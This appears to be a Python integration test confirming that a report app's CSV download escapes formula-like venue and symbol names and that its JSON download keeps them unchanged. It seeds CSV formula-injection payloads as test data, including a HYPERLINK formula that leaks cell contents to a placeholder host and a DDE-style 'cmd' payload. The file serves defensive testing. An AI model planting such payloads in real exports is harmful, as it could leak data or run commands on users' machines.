"""Report CSV against formula injection: venue and symbol names that start like a formula
(`=`, `+`, `-`, `@`, tab, CR), written to the real InfluxDB as tags, made into a report by the
task code and downloaded through the app, come out behind a `'`; the numbers the report computed
(negative ones too) stay numbers; the JSON download keeps every name as it was."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from core import reports as rep
from core.influx import InfluxDB
from core.lineproto import make_line
from core.state import RedisState
from tests.support.apps import app_with

pytestmark = pytest.mark.integration

M = 60_000_000_000
FORMULA = '=HYPERLINK("http://x.invalid/?leak="&A1,"open")'
# (symbol, buy venue, sell venue) of each seeded opportunity: every starting character the
# rule names, and one plain pair that must come out untouched.
PAIRS = [
    (FORMULA, "+cmd|' /C calc'!A0", "-2+3"),
    ("@SUM(1+1)-USD", "\tTAB", "\rCR"),
    ("CSV-USD", "csva", "csvb"),
]
DOWN_VENUE = "=1+1"  # only in a feed event: a venue row, not a pair
TEXT_COLUMNS = ("section", "symbol", "buy_exchange", "sell_exchange", "exchange")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # the list


@pytest.fixture
def report(influx: InfluxDB, state: RedisState,
           monkeypatch: pytest.MonkeyPatch) -> Iterator[dict[str, Any]]:
    """The hourly report, by tasks.reports.make_report, of an hour 9 h ago seeded with them."""
    from tasks.reports import make_report

    monkeypatch.delenv("REPORT_WEBHOOK_URL", raising=False)
    start = (datetime.now(UTC) - timedelta(hours=9)).replace(minute=0, second=0, microsecond=0)
    h = rep.to_ns(start)
    lines = [
        make_line("opportunities", {"symbol": s, "buy_exchange": b, "sell_exchange": x},
                  {"peak_net_pct": -0.25, "mean_net_pct": -0.5, "duration_s": 3.0,
                   "max_size": 1.0, "max_profit": -1.5 + i}, h + (10 + i) * M)
        for i, (s, b, x) in enumerate(PAIRS)
    ]
    lines.append(make_line("feed_events", {"exchange": DOWN_VENUE, "event": "connect"},
                           {"reason": "test", "count": 1}, h + 5 * M))
    influx.write_lines(lines)
    yield make_report("hourly", rep.iso(start), rep.iso(start + timedelta(hours=1)))


def download(rid: str, kind: str) -> Any:
    client = app_with().test_client()
    response = client.get(f"/api/reports/{rid}.{kind}")
    assert response.status_code == 200, response.data[:300]
    return response


def test_formula_names_are_escaped_and_numbers_stay_numbers(report: dict[str, Any]) -> None:
    response = download(report["id"], "csv")
    rows = list(csv.DictReader(io.StringIO(response.data.decode(), newline="")))
    pairs = {(r["symbol"], r["buy_exchange"], r["sell_exchange"]): r
             for r in rows if r["section"] == "pair"}
    assert set(pairs) == {
        ("'" + FORMULA, "'+cmd|' /C calc'!A0", "'-2+3"),
        ("'@SUM(1+1)-USD", "'\tTAB", "'\rCR"),
        ("CSV-USD", "csva", "csvb"),
    }
    hostile = pairs[("'" + FORMULA, "'+cmd|' /C calc'!A0", "'-2+3")]
    # Numbers the report computed: written as numbers, a minus sign and all.
    assert (hostile["mean_net_pct"], hostile["peak_net_pct"]) == ("-0.5", "-0.25")
    assert hostile["total_profit"] == "-1.5" and hostile["opportunities"] == "1"
    venues = {r["exchange"] for r in rows if r["section"] == "venue"}
    assert {"'=1+1", "'+cmd|' /C calc'!A0", "'\tTAB", "csva"} <= venues
    for row in rows:
        for column in TEXT_COLUMNS:
            assert not row[column].startswith(FORMULA_STARTS), (column, row)


def test_json_download_keeps_the_names_as_they_are(report: dict[str, Any]) -> None:
    body = download(report["id"], "json").get_json()
    assert {(p["symbol"], p["buy_exchange"], p["sell_exchange"]) for p in body["pairs"]} == set(
        PAIRS)
    assert DOWN_VENUE in {v["exchange"] for v in body["venues"]}
